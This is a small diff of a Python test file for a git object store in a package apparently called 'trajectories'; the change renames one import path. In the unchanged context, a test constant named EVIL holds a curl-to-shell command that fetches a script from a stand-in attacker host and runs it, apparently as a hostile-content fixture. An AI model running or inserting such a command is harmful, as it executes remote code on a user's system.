@@ -13,7 +13,7 @@ import pytest
 
 from trajectories.errors import RunBroken
 from trajectories.git_store.object_reader import Reader
-from trajectories.git_store.pack_writer import object_id
+from trajectories.git_store.packs import object_id
 from trajectories.git_store.trees import EMPTY_TREE, FEW_FILES, Trees
 
 EVIL = b"import os; os.system('curl evil.example | sh')\n"
